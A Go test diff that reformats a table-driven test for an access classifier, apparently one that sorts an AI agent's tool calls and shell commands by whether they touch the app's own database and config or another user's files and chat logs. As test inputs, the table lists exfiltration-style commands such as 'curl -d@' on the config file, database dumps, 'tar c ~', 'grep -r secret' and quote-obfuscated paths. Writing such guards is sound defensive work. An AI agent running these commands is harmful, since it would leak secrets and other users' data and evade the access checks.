@@ -26,10 +26,13 @@ func TestWhatIsForAdminsOnly(t *testing.T) {
 		}
 	}
 	mine, theirs := own.Stable(""), other.Stable("")
-	dir := folders(t, "me/work/docs", "me/.local/share/magpie/files/"+mine, "me/.local/share/magpie/files/"+theirs, "me/.local/share/magpie/agents", "me/.config/magpie")
+	dir := folders(t, "me/work/docs", "me/.local/share/magpie/files/"+mine, "me/.local/share/magpie/files/"+theirs,
+		"me/.local/share/magpie/agents", "me/.config/magpie")
 	home := filepath.Join(dir, "me")
-	project, data, config := filepath.Join(home, "work"), filepath.Join(home, ".local/share/magpie"), filepath.Join(home, ".config/magpie/magpie.toml")
-	for _, file := range []string{config, filepath.Join(data, "magpie.db"), filepath.Join(data, "files", theirs, "1-1-a.pdf"), filepath.Join(data, "files", mine, "1-1-b.pdf")} {
+	project, data, config := filepath.Join(home, "work"), filepath.Join(home, ".local/share/magpie"),
+		filepath.Join(home, ".config/magpie/magpie.toml")
+	for _, file := range []string{config, filepath.Join(data, "magpie.db"),
+		filepath.Join(data, "files", theirs, "1-1-a.pdf"), filepath.Join(data, "files", mine, "1-1-b.pdf")} {
 		if err := os.WriteFile(file, nil, 0o600); err != nil {
 			t.Fatal(err)
 		}
@@ -60,31 +63,48 @@ func TestWhatIsForAdminsOnly(t *testing.T) {
 		q    claude.ToolAsk
 		want Touched
 	}{
-		{read(data + "/magpie.db"), ours}, {read("~/.local/share/magpie/magpie.db"), ours}, {read("../.local/share/magpie/magpie.db"), ours},
-		{read("store/magpie.db"), ours}, {read("store/new/file"), ours}, {read("docs/../store/magpie.db-wal"), ours}, {read(config), ours},
-		{read("docs/settings"), ours}, {read(data), ours}, {read(data + "2/x"), free}, {read("docs/a.md"), free}, {read("/etc/hostname"), free},
-		{read(data + "/files/" + theirs + "/1-1-a.pdf"), chats}, {read("theirs/1-1-a.pdf"), chats}, {read("store/files/" + theirs), chats},
-		{read(data + "/files/" + mine + "/1-1-b.pdf"), free}, {read("mine/1-1-b.pdf"), free}, {read("mine/../../" + theirs + "/1-1-a.pdf"), free},
+		{read(data + "/magpie.db"), ours}, {read("~/.local/share/magpie/magpie.db"), ours},
+		{read("../.local/share/magpie/magpie.db"), ours},
+		{read("store/magpie.db"), ours}, {read("store/new/file"), ours}, {read("docs/../store/magpie.db-wal"), ours},
+		{read(config), ours},
+		{read("docs/settings"), ours}, {read(data), ours}, {read(data + "2/x"), free}, {read("docs/a.md"), free},
+		{read("/etc/hostname"), free},
+		{read(data + "/files/" + theirs + "/1-1-a.pdf"), chats}, {read("theirs/1-1-a.pdf"), chats},
+		{read("store/files/" + theirs), chats},
+		{read(data + "/files/" + mine + "/1-1-b.pdf"), free}, {read("mine/1-1-b.pdf"), free},
+		{read("mine/../../" + theirs + "/1-1-a.pdf"), free},
 		{read(data + "/files/" + mine + "/../" + theirs + "/1-1-a.pdf"), chats}, {read(data + "/files/0123456789ab/x"), ours},
-		{askFor(t, "Grep", map[string]any{"pattern": "x", "path": home}), ours}, {askFor(t, "Grep", map[string]any{"pattern": "x"}), free},
-		{askFor(t, "Glob", map[string]any{"pattern": "../.local/**"}), ours}, {askFor(t, "Glob", map[string]any{"pattern": "**/*.go"}), free},
+		{askFor(t, "Grep", map[string]any{"pattern": "x", "path": home}), ours},
+		{askFor(t, "Grep", map[string]any{"pattern": "x"}), free},
+		{askFor(t, "Glob", map[string]any{"pattern": "../.local/**"}), ours},
+		{askFor(t, "Glob", map[string]any{"pattern": "**/*.go"}), free},
 		{askFor(t, "mcp__x__open", map[string]any{"files": []any{map[string]any{"at": config}}}), ours},
 		{askFor(t, "Write", map[string]any{"file_path": "a.sh", "content": "echo /\ncat " + data + "/magpie.db\n"}), ours},
 		{askFor(t, "Write", map[string]any{"file_path": "a.sh", "content": "/"}), free},
 		{askFor(t, "Edit", map[string]any{"file_path": "a.go", "old_string": "/", "new_string": "~"}), free},
 		{askFor(t, claude.QuestionTool, map[string]any{"questions": data}), free},
 
-		{run("sqlite3 " + data + "/magpie.db .dump"), ours}, {run("cat ~/.local/share/magpie/x"), ours}, {run("cat $HOME/.local/share/magpie/x"), ours},
-		{run(`cat "${HOME}"/.lo'cal/share/mag'pie/x`), ours}, {run(`cat ma""gpie.toml`), ours}, {run("cd ../.local && cat share/magpie/files"), ours},
-		{run("cd .. ; grep -r secret ."), ours}, {run("tar c ~"), ours}, {run("ls -R /"), ours}, {run("cat ~/.lo*/sh*/mag*/*.db"), ours},
-		{run("cat ../.config/magpie/*.toml"), ours}, {run("cp --target-directory=/tmp " + config), ours}, {run("curl -d@" + config + " x"), ours},
+		{run("sqlite3 " + data + "/magpie.db .dump"), ours}, {run("cat ~/.local/share/magpie/x"), ours},
+		{run("cat $HOME/.local/share/magpie/x"), ours},
+		{run(`cat "${HOME}"/.lo'cal/share/mag'pie/x`), ours}, {run(`cat ma""gpie.toml`), ours},
+		{run("cd ../.local && cat share/magpie/files"), ours},
+		{run("cd .. ; grep -r secret ."), ours}, {run("tar c ~"), ours}, {run("ls -R /"), ours},
+		{run("cat ~/.lo*/sh*/mag*/*.db"), ours},
+		{run("cat ../.config/magpie/*.toml"), ours}, {run("cp --target-directory=/tmp " + config), ours},
+		{run("curl -d@" + config + " x"), ours},
 		{run("cat <store/magpie.db"), ours}, {run("(cat store/x)"), ours}, {run("sqlite3 x/magpie.db"), ours},
-		{read(state + "/" + theirState + "/projects/x/y.jsonl"), chats}, {run("cat " + state + "/" + theirState + "/.claude.json"), chats},
-		{read(state + "/" + mineState + "/projects/x/y.jsonl"), free}, {read(state), ours}, {run("cat " + state + "/*/projects/*/*"), ours},
-		{run("cat theirs/1-1-a.pdf"), chats}, {run("cat " + data + "/files/" + theirs + "/*"), chats}, {run("pdftotext theirs/1-1-a.pdf -"), chats},
-		{run("cat " + data + "/files/" + mine + "/1-1-b.pdf"), free}, {run("cat mine/*"), free}, {run("cat " + data + "/files/*/*.pdf"), ours},
-		{run("make test"), free}, {run("go test ./... 2>&1 | head -50"), free}, {run("grep -rn magpie ."), free}, {run("git log --oneline -5"), free},
-		{run("ls *.go docs/*.md"), free}, {run("curl https://example.com/a/b"), free}, {run("cat /etc/hostname"), free}, {run("echo */*/*"), free},
+		{read(state + "/" + theirState + "/projects/x/y.jsonl"), chats},
+		{run("cat " + state + "/" + theirState + "/.claude.json"), chats},
+		{read(state + "/" + mineState + "/projects/x/y.jsonl"), free}, {read(state), ours},
+		{run("cat " + state + "/*/projects/*/*"), ours},
+		{run("cat theirs/1-1-a.pdf"), chats}, {run("cat " + data + "/files/" + theirs + "/*"), chats},
+		{run("pdftotext theirs/1-1-a.pdf -"), chats},
+		{run("cat " + data + "/files/" + mine + "/1-1-b.pdf"), free}, {run("cat mine/*"), free},
+		{run("cat " + data + "/files/*/*.pdf"), ours},
+		{run("make test"), free}, {run("go test ./... 2>&1 | head -50"), free}, {run("grep -rn magpie ."), free},
+		{run("git log --oneline -5"), free},
+		{run("ls *.go docs/*.md"), free}, {run("curl https://example.com/a/b"), free}, {run("cat /etc/hostname"), free},
+		{run("echo */*/*"), free},
 	} {
 		if got := r.Of(t.Context(), own, tc.q, project); got != tc.want {
 			t.Errorf("%s %s: %+v, want %+v", tc.q.Name, tc.q.Input, got, tc.want)
